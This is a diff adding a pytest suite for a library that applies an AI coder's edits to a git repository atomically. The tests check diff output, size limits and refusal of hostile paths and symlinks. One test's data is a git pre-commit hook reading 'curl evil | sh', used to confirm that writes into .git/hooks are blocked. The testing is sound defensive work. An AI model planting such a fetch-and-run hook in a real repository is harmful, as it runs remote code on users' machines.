@@ -1,0 +1,324 @@
+"""Applying a coder's edits to a real git repository: all or nothing, and a diff that applies."""
+
+from __future__ import annotations
+
+import os
+import shutil
+from pathlib import Path
+
+import pytest
+
+from codeyard.agents.edits import EditError, apply_edits
+from codeyard.agents.outputs import CodeOutput, FileEdit, ReplaceText, WriteFile
+from tests.agents.sample_repo import files_of, git
+
+
+def replace(path: str, search: str, new: str) -> ReplaceText:
+    return ReplaceText(kind="replace", path=path, search=search, replace=new)
+
+
+def write(path: str, content: str) -> WriteFile:
+    return WriteFile(kind="write", path=path, content=content)
+
+
+def assert_untouched(repo: Path, before: dict[str, bytes]) -> None:
+    assert files_of(repo) == before
+    assert git(repo, "status", "--porcelain") == ""
+
+
+def test_edits_from_a_code_output_apply_and_their_diff_applies_to_the_original(
+    sample_repo: Path, tmp_path: Path
+) -> None:
+    original = tmp_path / "original"
+    shutil.copytree(sample_repo, original, symlinks=True)
+    output = CodeOutput.model_validate(
+        {
+            "summary": "Add mul, and export it.",
+            "edits": [
+                {
+                    "kind": "replace",
+                    "path": "calc/ops.py",
+                    "search": "def sub(a: int, b: int) -> int:\n    return a - b\n",
+                    "replace": "def sub(a: int, b: int) -> int:\n    return a - b\n\n\n"
+                    "def mul(a: int, b: int) -> int:\n    return a * b\n",
+                },
+                {
+                    "kind": "replace",
+                    "path": "calc/__init__.py",
+                    "search": "add, sub",
+                    "replace": "add, mul, sub",
+                },
+                # A second edit of the same file sees the first one's result.
+                {
+                    "kind": "replace",
+                    "path": "calc/__init__.py",
+                    "search": "['add', 'sub']",
+                    "replace": "['add', 'mul', 'sub']",
+                },
+                {
+                    "kind": "write",
+                    "path": "tests/unit/test_mul.py",
+                    "content": "from calc import mul\n\n\ndef test_mul() -> None:\n"
+                    "    assert mul(3, 4) == 12",  # no newline at the end, on purpose
+                },
+            ],
+        }
+    )
+
+    applied = apply_edits(sample_repo, output.edits)
+
+    assert applied.modified == ("calc/ops.py", "calc/__init__.py")
+    assert applied.created == ("tests/unit/test_mul.py",)
+    assert "def mul(a: int, b: int) -> int:" in (sample_repo / "calc/ops.py").read_text()
+    assert (
+        (sample_repo / "calc/__init__.py")
+        .read_text()
+        .startswith("from calc.ops import add, mul, sub\n")
+    )
+    assert "+++ b/tests/unit/test_mul.py" in applied.diff
+    assert "\\ No newline at end of file" in applied.diff
+    # The repository's own index is untouched: the new file is untracked, nothing is staged.
+    status = git(sample_repo, "status", "--porcelain", "--untracked-files=all")
+    assert status.splitlines() == [
+        " M calc/__init__.py",
+        " M calc/ops.py",
+        "?? tests/unit/test_mul.py",
+    ]
+    # The diff turns the original tree into exactly the edited one.
+    git(original, "apply", "--check", stdin=applied.diff)
+    git(original, "apply", stdin=applied.diff)
+    assert files_of(original) == files_of(sample_repo)
+
+
+def test_the_diff_is_only_this_change_even_with_other_work_in_the_tree(
+    sample_repo: Path, tmp_path: Path
+) -> None:
+    # Uncommitted and staged changes made before the edits are not part of their diff.
+    (sample_repo / "README.md").write_text("# calc\n\nChanged by hand.\n")
+    ops = sample_repo / "calc/ops.py"
+    ops.write_text(ops.read_text() + "\n\nPI = 3\n")
+    git(sample_repo, "add", "calc/ops.py")
+    original = tmp_path / "original"
+    shutil.copytree(sample_repo, original, symlinks=True)
+
+    applied = apply_edits(sample_repo, [replace("calc/ops.py", "PI = 3", "PI = 3.14159")])
+
+    assert applied.diff.count("diff --git") == 1
+    assert "-PI = 3\n+PI = 3.14159\n" in applied.diff
+    git(original, "apply", stdin=applied.diff)
+    assert files_of(original) == files_of(sample_repo)
+
+
+def test_edits_that_change_nothing_give_an_empty_diff(sample_repo: Path) -> None:
+    content = (sample_repo / "calc/ops.py").read_text()
+
+    applied = apply_edits(sample_repo, [write("calc/ops.py", content)])
+
+    assert (applied.diff, applied.created, applied.modified) == ("", (), ())
+    assert git(sample_repo, "status", "--porcelain") == ""
+
+
+def test_a_search_block_found_twice_is_refused_and_nothing_is_written(
+    sample_repo: Path,
+) -> None:
+    before = files_of(sample_repo)
+    edits: list[FileEdit] = [
+        write("calc/mul.py", "def mul(a, b):\n    return a * b\n"),  # valid on its own
+        replace("calc/ops.py", "(a: int, b: int) -> int:", "(a: float, b: float) -> float:"),
+    ]
+
+    with pytest.raises(EditError) as caught:
+        apply_edits(sample_repo, edits)
+
+    assert str(caught.value) == (
+        "edit 2 (replace calc/ops.py): search text found 2 times in calc/ops.py; "
+        "include more surrounding lines so it matches exactly once"
+    )
+    assert (caught.value.index, caught.value.path) == (1, "calc/ops.py")
+    assert_untouched(sample_repo, before)
+
+
+def test_overlapping_matches_count_as_more_than_one(sample_repo: Path) -> None:
+    (sample_repo / "notes.txt").write_text("aaa\n")
+
+    with pytest.raises(EditError, match=r"found 2 times in notes\.txt"):
+        apply_edits(sample_repo, [replace("notes.txt", "aa", "b")])
+
+
+def test_a_search_block_not_found_is_refused(sample_repo: Path) -> None:
+    before = files_of(sample_repo)
+
+    with pytest.raises(EditError, match=r"search text not found in calc/ops\.py"):
+        # A tab where the file has spaces: exact means exact.
+        apply_edits(sample_repo, [replace("calc/ops.py", "\treturn a + b", "\treturn b + a")])
+
+    assert_untouched(sample_repo, before)
+
+
+def test_a_search_block_for_a_missing_file_says_how_to_create_it(sample_repo: Path) -> None:
+    with pytest.raises(
+        EditError, match=r"calc/div\.py does not exist; create it with a write edit"
+    ):
+        apply_edits(sample_repo, [replace("calc/div.py", "x", "y")])
+
+
+@pytest.mark.parametrize(
+    ("path", "reason"),
+    [
+        ("../outside.py", "the path contains '..'"),
+        ("calc/../../outside.py", "the path contains '..'"),
+        ("/tmp/outside.py", "the path is absolute"),
+        (".git/hooks/pre-commit", "the path is inside .git"),
+        (".GIT/hooks/pre-commit", "the path is inside .git"),
+        ("calc/.git/config", "the path is inside .git"),
+        ("./calc/ops.py", "not in normal form; write 'calc/ops.py'"),
+        ("calc//ops.py", "not in normal form; write 'calc/ops.py'"),
+        ("calc\\ops.py", "contains '\\'"),
+    ],
+)
+def test_hostile_paths_are_refused_before_anything_is_written(
+    sample_repo: Path, path: str, reason: str
+) -> None:
+    before = files_of(sample_repo)
+    hooks = sorted((sample_repo / ".git/hooks").iterdir())
+
+    with pytest.raises(EditError) as caught:
+        apply_edits(sample_repo, [write("calc/ok.py", "ok = 1\n"), write(path, "#!/bin/sh\n")])
+
+    assert reason in str(caught.value)
+    assert caught.value.index == 1
+    assert_untouched(sample_repo, before)
+    assert sorted((sample_repo / ".git/hooks").iterdir()) == hooks
+    assert not (sample_repo.parent / "outside.py").exists()
+
+
+def test_a_symlink_out_of_the_repository_is_not_followed(sample_repo: Path, tmp_path: Path) -> None:
+    outside = tmp_path / "elsewhere"
+    outside.mkdir()
+    (sample_repo / "vendor").symlink_to(outside)
+
+    with pytest.raises(EditError, match="'vendor' is a symlink"):
+        apply_edits(sample_repo, [write("vendor/evil.py", "import os\n")])
+
+    assert list(outside.iterdir()) == []
+
+
+def test_a_symlink_into_git_hooks_is_not_followed(sample_repo: Path) -> None:
+    (sample_repo / "hooks").symlink_to(sample_repo / ".git/hooks")
+
+    with pytest.raises(EditError, match="'hooks' is a symlink"):
+        apply_edits(sample_repo, [write("hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")])
+
+    assert not (sample_repo / ".git/hooks/pre-commit").exists()
+
+
+def test_a_nested_repository_is_not_edited(sample_repo: Path) -> None:
+    # git would leave files of another repository out of the diff, or refuse them.
+    vendored = sample_repo / "vendored"
+    vendored.mkdir()
+    git(vendored, "init", "--quiet")
+    (vendored / "lib.py").write_text("x = 1\n")
+
+    with pytest.raises(EditError, match="'vendored' is a separate git repository"):
+        apply_edits(sample_repo, [replace("vendored/lib.py", "x = 1", "x = 2")])
+    with pytest.raises(EditError, match="'vendored' is a separate git repository"):
+        apply_edits(sample_repo, [write("vendored/new.py", "")])
+
+    assert (vendored / "lib.py").read_text() == "x = 1\n"
+    assert not (vendored / "new.py").exists()
+
+
+def test_content_over_the_size_limit_is_refused(sample_repo: Path) -> None:
+    with pytest.raises(EditError) as caught:
+        apply_edits(sample_repo, [write("big.txt", "x" * 1001)], max_file_bytes=1000)
+
+    assert str(caught.value) == (
+        "edit 1 (write big.txt): big.txt would be 1001 bytes, over the limit of 1000 per file"
+    )
+    assert not (sample_repo / "big.txt").exists()
+
+
+def test_a_replacement_growing_a_file_over_the_limit_is_refused(sample_repo: Path) -> None:
+    with pytest.raises(EditError, match=r"calc/ops\.py would be \d+ bytes, over the limit"):
+        apply_edits(
+            sample_repo, [replace("calc/ops.py", "a - b", "a - b" + " " * 500)], max_file_bytes=500
+        )
+
+
+def test_binary_content_is_refused(sample_repo: Path) -> None:
+    with pytest.raises(EditError, match="NUL character"):
+        apply_edits(sample_repo, [write("data.bin", "abc\0def")])
+
+
+def test_files_and_directories_cannot_take_each_others_place(sample_repo: Path) -> None:
+    with pytest.raises(EditError, match=r"calc/ops\.py is a file, so calc/ops\.py/x\.py cannot be"):
+        apply_edits(sample_repo, [write("calc/ops.py/x.py", "")])
+    with pytest.raises(EditError, match=r"edit 1 .*: calc is a directory"):
+        apply_edits(sample_repo, [write("calc", "")])
+    with pytest.raises(EditError, match=r"edit 2 .*: new is a file, so new/x\.py cannot be"):
+        apply_edits(sample_repo, [write("new", ""), write("new/x.py", "")])
+    with pytest.raises(EditError, match=r"edit 2 .*: new is a directory holding files"):
+        apply_edits(sample_repo, [write("new/x.py", ""), write("new", "")])
+    assert not (sample_repo / "new").exists()
+
+
+def test_new_files_in_new_directories_and_ignored_paths_are_in_the_diff(
+    sample_repo: Path, tmp_path: Path
+) -> None:
+    (sample_repo / ".gitignore").write_text("generated/\n")
+    git(sample_repo, "add", ".gitignore")
+    git(sample_repo, "commit", "--quiet", "--message", "ignore generated/")
+    original = tmp_path / "original"
+    shutil.copytree(sample_repo, original, symlinks=True)
+
+    applied = apply_edits(
+        sample_repo,
+        [write("generated/deep/table.py", "TABLE = {}\n"), write("docs/[draft] *.md", "# x\n")],
+    )
+
+    assert applied.created == ("generated/deep/table.py", "docs/[draft] *.md")
+    git(original, "apply", stdin=applied.diff)
+    assert files_of(original) == files_of(sample_repo)
+
+
+def test_an_executable_file_keeps_its_mode(sample_repo: Path, tmp_path: Path) -> None:
+    script = sample_repo / "run.sh"
+    script.write_text("#!/bin/sh\necho one\n")
+    script.chmod(0o755)
+    git(sample_repo, "add", "run.sh")
+    git(sample_repo, "commit", "--quiet", "--message", "script")
+
+    applied = apply_edits(sample_repo, [replace("run.sh", "echo one", "echo two")])
+
+    assert os.access(script, os.X_OK)
+    assert "old mode" not in applied.diff
+    assert "+echo two" in applied.diff
+
+
+def test_files_written_are_restored_when_git_fails_afterwards(sample_repo: Path) -> None:
+    # A required clean filter that fails (say, git-lfs missing) breaks only the diff, which
+    # runs after the files are written: they must be put back as they were.
+    git(sample_repo, "config", "filter.broken.clean", "false")
+    git(sample_repo, "config", "filter.broken.required", "true")
+    (sample_repo / ".gitattributes").write_text("*.txt filter=broken\n")
+    before = files_of(sample_repo)
+
+    with pytest.raises(EditError, match=r"(?s)git diff failed: .*clean filter 'broken' failed"):
+        apply_edits(
+            sample_repo,
+            [replace("calc/ops.py", "a - b", "b - a"), write("notes/new/todo.txt", "mul\n")],
+        )
+
+    assert files_of(sample_repo) == before
+    assert not (sample_repo / "notes").exists()
+
+
+def test_the_root_must_be_the_top_of_a_work_tree(sample_repo: Path, tmp_path: Path) -> None:
+    with pytest.raises(ValueError, match="is not the top level of a git work tree"):
+        apply_edits(sample_repo / "calc", [write("x.py", "")])
+    plain = tmp_path / "plain"
+    plain.mkdir()
+    with pytest.raises(ValueError, match="is not the top level of a git work tree"):
+        apply_edits(plain, [write("x.py", "")])
+    assert not (sample_repo / "calc/x.py").exists()
+    assert not (plain / "x.py").exists()
